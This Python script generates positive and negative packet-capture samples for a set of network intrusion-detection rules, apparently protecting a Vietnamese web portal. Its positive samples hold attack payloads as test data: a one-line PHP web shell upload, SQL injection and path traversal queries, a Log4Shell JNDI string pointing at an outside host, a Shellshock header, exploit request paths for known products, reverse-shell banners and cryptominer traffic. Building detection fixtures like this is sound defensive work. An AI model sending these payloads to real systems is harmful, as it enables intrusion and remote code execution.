#!/usr/bin/env python3
"""Writes rules/samples/<sid>/{positive,negative}.pcap of the network rules: make.py RULES_FOLDER.

Outside is 203.0.113.50, inside 10.10.20.10 (server) and 10.10.32.12 (PC). Every capture stays under 5 kB. Rules that need a
real client (TLS with a certificate, an ssh guessing run) are shown by tests/fixtures/demo; their folder names it.
"""

import pathlib
import sys

from wire import Capture, dns_question, form_file, request, response

OUTSIDE, SERVER, PC, WEB = "203.0.113.50", "10.10.20.10", "10.10.32.12", "198.51.100.23"
PROGRAM = b"MZ" + b"\0" * 62 + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 40
SPAM = "nhà cái uy tín, tài xỉu, nổ hũ, soi cầu, bạch thủ lô, xóc đĩa, game bài đổi thưởng"
ARTICLE = "Công an tỉnh cảnh báo: nhiều nhà cái trên mạng mời chào cá cược. Người dân không tham gia."


def inbound(asked, answered=None):
    """One exchange of an outside client with the portal."""
    capture = Capture()
    capture.tcp(OUTSIDE, SERVER, 80, [(">", asked), ("<", answered or response())])
    return capture


def outbound(asked, answered=None, server=WEB):
    capture = Capture()
    capture.tcp(PC, server, 80, [(">", asked), ("<", answered or response())])
    return capture


def raw(port, turns, client=PC, server=WEB):
    capture = Capture()
    capture.tcp(client, server, port, turns)
    return capture


def many(count, port, turns, client=OUTSIDE, server=SERVER):
    capture = Capture()
    for _ in range(count):
        capture.tcp(client, server, port, turns)
    return capture


def hunt(count, port):
    capture = Capture()
    for number in range(count):
        capture.tcp(PC, f"203.0.113.{number + 10}", port, [])
    return capture


def scan(ports):
    capture = Capture()
    for port in ports:
        capture.tcp(OUTSIDE, SERVER, port, [])
    return capture


def answer(port, client=OUTSIDE):
    """An inside service that takes an outside connection."""
    return raw(port, [("<", b"\0")], client, SERVER)


def ask(name, kind=1, count=1):
    capture = Capture()
    for number in range(count):
        capture.udp(PC, "10.10.20.53", 53, dns_question(name.format(n=number), kind))
    return capture


def upload(name, data):
    body, kind = form_file(name, data)
    return inbound(request("POST /nop-ho-so.php", body=body, Content_Type=kind))


def page(text, path="/tin-tuc/01.html", agent="Mozilla/5.0", status="200 OK"):
    data = text if isinstance(text, bytes) else text.encode()
    return inbound(request(f"GET {path}", User_Agent=agent), response(data, status))


def address(path, **headers):
    return inbound(request(f"GET {path}", **headers))


def post(path, body, method="POST", **headers):
    return inbound(request(f"{method} {path}", body=body, **headers))


GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
LONG = "a{n:03d}" + "q" * 50 + "." + "r" * 57 + ".t.cdn-sync.example"
FOLDED = "nha cai uy tin, tai xiu, no hu, soi cau, bach thu"
DECOMPOSED = "nha\u0300 ca\u0301i, tai xiu, soi ca\u0302\u0300u, xo\u0301c đi\u0303a"

CASES = {
    9000001: (upload("anh.php", b'<?php system($_REQUEST["c"]); ?>'), upload("don.pdf", b"%PDF-1.4 huong dan <? system")),
    9000002: (upload("a.jsp", b'<%@ page import="java.io.*" %>'), upload("don.docx", b"PK\3\4 <% 12")),
    9000003: (address("/tai-len/anh.php?c=whoami"), address("/tim-kiem.php?q=id+card")),
    9000004: (page("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), page("uid=12 la ma dinh danh, gid= la ma nhom")),
    9000005: (page("root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n"), page("root:x la mot dong trong tep")),
    9000006: (address("/tai-len/anh.php?c=1"), address("/tai-len/don-12.pdf")),
    9000010: (address("/tra-cuu.php?ma=HS1%27%20UNION%20ALL%20SELECT%20NULL--%20x"), address("/tim-kiem.php?q=trade+union+select+committee")),
    9000011: (address("/tra-cuu.php?ma=HS1%27%20AND%201284%3D1284--%20q"), address("/tim-kiem.php?q=O%27Brien+and+1%3D1")),
    9000012: (address("/tra-cuu.php?ma=1%27%20UNION%20SELECT%20sql%20FROM%20sqlite_master--"), address("/tim-kiem.php?q=select+from+list")),
    9000013: (page("Warning: SQLite3::query(): Unable to prepare statement: 1"), page("Không có hồ sơ này")),
    9000014: (address("/", User_Agent="sqlmap/1.7.2#stable (https://sqlmap.org)"), address("/", User_Agent="Mozilla/5.0 sqlmap reader")),
    9000015: (address("/tai-ve.php?tep=../../../etc/passwd"), address("/tai-ve.php?tep=mau-01.pdf")),
    9000016: (address("/", User_Agent="${jndi:ldap://198.51.100.23:1389/a}"), address("/?mau=${ten}")),
    9000017: (address("/cgi-bin/x", User_Agent="() { :; }; /bin/id"), address("/cgi-bin/x", User_Agent="f() { return }")),
    9000020: (post("/api/jsonws/invoke", b'cmd={"/expandocolumn/update-column":{}}'), post("/api/jsonws/invoke", b'cmd={"/user/get":{}}')),
    9000021: (post("/fileupload/toolsAny", b'name="../../repository/deployment/server/webapps/a/t.jsp"'), post("/fileupload/anh", b"anh.png")),
    9000022: (post("/service/extension/backup/mboximport?account-name=admin", b"PK"), post("/service/soap", b"<a/>")),
    9000023: (address("/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=x@a.example"), address("/autodiscover/autodiscover.json?Email=an@saola.example")),
    9000024: (post("/_layouts/15/ToolPane.aspx?DisplayMode=Edit", b"x=1", Referer="/_layouts/SignOut.aspx"),
              post("/_layouts/15/ToolPane.aspx?DisplayMode=Edit", b"x=1", Referer="/_layouts/15/start.aspx")),
    9000025: (post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"<?=1?>"), post("/eval.php", b"a=1")),
    9000030: (post("/SDK/webLanguage", b"<language>$(id>webLib/x)</language>", "PUT"), post("/SDK/webLanguage", b"<language>vi</language>", "PUT")),
    9000031: (address("/ISAPI/System/deviceInfo", Authorization="Basic YWRtaW46MTIzNDU="), address("/ISAPI/System/deviceInfo", Authorization="Basic YW46U2FvbGEtMjAyNiE=")),
    9000032: (address("/ISAPI/System/deviceInfo", Authorization="Basic YWRtaW46MTIzNDU="),
              inbound(request("GET /ISAPI/System/deviceInfo", Authorization="Basic YWRtaW46MTIzNDU="), response(status="401 Unauthorized"))),
    9000033: (post("/RPC2_Login", b'{"method":"global.login","params":{"loginType":"Loopback"}}'), post("/RPC2_Login", b'{"method":"global.login","params":{"loginType":"Direct"}}')),
    9000034: (hunt(20, 23), hunt(5, 23)),
    9000040: (page(SPAM), page(ARTICLE)),
    9000041: (page(FOLDED), page("Nha cai tao duong tai xa Suoi Lanh")),
    9000042: (page(DECOMPOSED), page("nha\u0300 ca\u0301i la\u0300 gi?")),
    9000043: (page("nh&agrave; c&aacute;i uy t&iacute;n, t&agrave;i x&#7881;u"), page("nh&agrave; c&aacute;i l&agrave; g&igrave;")),
    9000045: (page(SPAM, "/upload/nha-cai-uy-tin.html", GOOGLEBOT), page("khong co", "/upload/nha-cai-uy-tin.html", GOOGLEBOT, "404 Not Found")),
    9000050: (many(8, 22, [(">", b"SSH-2.0-x\r\n")]), many(3, 22, [(">", b"SSH-2.0-x\r\n")])),
    9000051: (raw(22, [(">", b"SSH-2.0-libssh_0.10.6\r\n")], OUTSIDE, SERVER), raw(22, [(">", b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")], OUTSIDE, SERVER)),
    9000052: (many(8, 25, [("<", b"535 5.7.8 Error: authentication failed\r\n")]), many(2, 25, [("<", b"535 5.7.8 Error: authentication failed\r\n")])),
    9000053: (scan(range(8000, 8035)), scan(range(8000, 8010))),
    9000054: (address("/", User_Agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), address("/", User_Agent=GOOGLEBOT)),
    9000055: (raw(21, [("<", b"220 kho\r\n"), (">", b"USER an\r\n"), ("<", b"331 ok\r\n"), (">", b"PASS x\r\n"), ("<", b"230 Login successful.\r\n")], OUTSIDE, SERVER),
              raw(21, [("<", b"220 kho\r\n"), (">", b"USER an\r\n"), ("<", b"530 no\r\n")], OUTSIDE, SERVER)),
    9000056: (answer(3389), answer(3389, PC)),
    9000060: (raw(4444, [(">", b"bash: cannot set terminal process group (42): Inappropriate ioctl for device\nbash: no job control in this shell\n")]),
              raw(4444, [(">", b"bash: an: command not found\n")])),
    9000061: (raw(4444, [(">", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")]), raw(4444, [(">", b"uid=33 gid=33\n")])),
    9000062: (raw(4444, [(">", b"Microsoft Windows [Version 10.0.19045.5011]\r\n(c) Microsoft Corporation. All rights reserved.\r\n")]), raw(4444, [(">", b"Windows\r\n")])),
    9000064: (outbound(request("GET /a.exe", host="198.51.100.23"), response(PROGRAM, kind="application/octet-stream")),
              outbound(request("GET /KB5031234-x64.exe", host="download.nha-san-xuat.example"), response(PROGRAM, kind="application/octet-stream"))),
    9000065: (outbound(request("GET /hoa-don.jpg", host="kho.example"), response(PROGRAM, kind="image/jpeg")),
              outbound(request("GET /hoa-don.jpg", host="kho.example"), response(b"\xff\xd8\xff\xe0 MZ", kind="image/jpeg"))),
    9000066: (outbound(request("GET /bins/arm7", host="198.51.100.23"), response(b"\x7fELF\2\1\1" + b"\0" * 60, kind="application/octet-stream")),
              outbound(request("GET /kho/goi.deb", host="kho.example"), response(b"!<arch>\n", kind="application/octet-stream"))),
    9000067: (outbound(request("GET /thu.txt", host="kho.example"), response(r"X5O!P%@AP[4\PZX54(P^)7CC)7}$".encode() + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*")),
              outbound(request("GET /thu.txt", host="kho.example"), response(b"EICAR la gi?"))),
    9000068: (outbound(request("GET /", host="kho.example", User_Agent="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")),
              outbound(request("GET /", host="kho.example", User_Agent="Mozilla/5.0 (Windows NT 10.0)"))),
    9000069: (outbound(request("GET /tai/gca01-client-v2-x64-8.3.msi", host="phanmem-mienphi.example")), outbound(request("GET /documents/gca01-client-v2-x64-8.3.msi", host="ca.gov.vn"))),
    9000072: (raw(80, [(">", b"GET / HTTP/1.0\r\n\r\n")], PC, "45.142.166.112"), raw(80, [(">", b"GET / HTTP/1.0\r\n\r\n")])),
    9000073: (ask("www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"), ask("www.bao.example")),
    9000074: (ask(LONG, 16, 12), ask("4z9p5tjmcbnbleh4557z1d136q.avts.tracuu-hucau.example", 1, 12)),
    9000075: (ask("a{n}.t.cdn-sync.example", 10, 12), ask("a{n}.bao.example", 16, 12)),
    9000076: (raw(3333, [(">", b'{"id":1,"method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21"}}\n')]), raw(3333, [(">", b'{"id":1,"method":"dangnhap","params":{}}\n')])),
    9000077: (ask("vneid-capnhat.example"), ask("dichvucong.gov.vn")),
}
SHOWN_BY_THE_DEMO = {9000044: "sets a flow bit only; see 9000045", 9000063: "sets a flow bit only; see 9000064",
                     9000070: "tests/fixtures/demo/traffic.pcap.zst", 9000071: "tests/fixtures/demo/traffic.pcap.zst"}


def main():
    samples = pathlib.Path(sys.argv[1]) / "samples"
    for number, (positive, negative) in CASES.items():
        folder = samples / str(number)
        folder.mkdir(parents=True, exist_ok=True)
        positive.write(folder / "positive.pcap")
        negative.write(folder / "negative.pcap")
    for number, where in SHOWN_BY_THE_DEMO.items():
        folder = samples / str(number)
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "positive.txt").write_text(where + "\n")


if __name__ == "__main__":
    main()
